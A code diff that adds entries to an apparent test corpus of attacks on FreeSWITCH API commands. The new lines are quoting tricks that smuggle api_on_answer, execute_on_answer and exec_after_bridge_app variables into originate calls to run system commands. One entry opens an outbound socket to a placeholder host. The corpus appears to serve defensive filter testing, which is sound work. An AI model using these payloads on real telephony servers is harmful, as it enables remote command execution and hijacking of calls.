@@ -476,6 +476,11 @@ function buildCorpus(): Attack[] {
     cmd(Q, 'originate', "{a='}',api_on_answer='system ls'}user/1000 &echo"),
     cmd(Q, 'uuid_transfer', `${UUID} 1000 'inline'`),
     cmd(Q, 'uuid_setvar', `${UUID} 'api_hangup_hook' system ls`),
+    // quotes that protect a comma until FreeSWITCH drops them from the originate word
+    cmd(Q, 'originate', "{a='x,api_on_answer=system ls'}user/1000 &echo"),
+    cmd(Q, 'originate', "{a='x,execute_on_answer=system ls'}user/1000 &echo"),
+    cmd(Q, 'originate', "{a='x,exec_after_bridge_app=lua'}user/1000 &echo"),
+    cmd(Q, 'cti_originate', "{a='1,execute_on_answer=socket 1.2.3.4:8084'}user/1000 &park()"),
     cmd(Q, 'uuid_setvar', `${UUID} api_hangup_hook 'system' ls`),
     // once holes: FreeSWITCH removes the quotes inside every word it splits
     cmd(Q, 'uuid_broadcast', `${UUID} 'system::ls' both`),
